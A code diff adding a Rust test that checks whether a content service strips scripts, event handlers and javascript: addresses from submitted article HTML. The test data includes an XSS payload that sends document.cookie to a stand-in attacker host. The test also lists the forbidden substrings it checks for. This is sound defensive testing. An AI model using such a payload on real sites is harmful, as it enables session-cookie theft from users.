@@ -933,3 +933,29 @@ async fn only_the_admin_publishes_the_calendar_a_year_at_a_time() {
         "other years stay"
     );
 }
+
+#[tokio::test]
+async fn a_body_is_stored_without_scripts_handlers_or_script_addresses() {
+    let o = office().await;
+    let token = o.sign_in("jyj.officer").await;
+    let column = o.first_column(&token).await;
+    let mut body = item(column.id, "带脚本的稿件");
+    body["body_html"] = json!(
+        r#"<h2>标题</h2><p>正文</p><img src=x onerror="fetch('https://evil.example/'+document.cookie)"><script>alert(1)</script><a href="javascript:alert(1)">链接</a>"#
+    );
+    let (status, sent) = o.submit(&token, Some("k-xss"), &body).await;
+    assert_eq!(status, StatusCode::CREATED);
+    let editor = o.sign_in("bjb.editor").await;
+    let (_, stored) = o.get(&editor, &format!("/items/{}", sent["id"])).await;
+    let html = stored["body_html"].as_str().unwrap();
+    for gone in ["onerror", "<script", "javascript:", "document.cookie"] {
+        assert!(!html.contains(gone), "{gone} was stored: {html}");
+    }
+    assert!(
+        html.contains("<h2>标题</h2>") && html.contains("链接"),
+        "{html}"
+    );
+    // The same send again is a replay of the first answer, not a key reused.
+    let (status, again) = o.submit(&token, Some("k-xss"), &body).await;
+    assert_eq!((status, &again["id"]), (StatusCode::CREATED, &sent["id"]));
+}
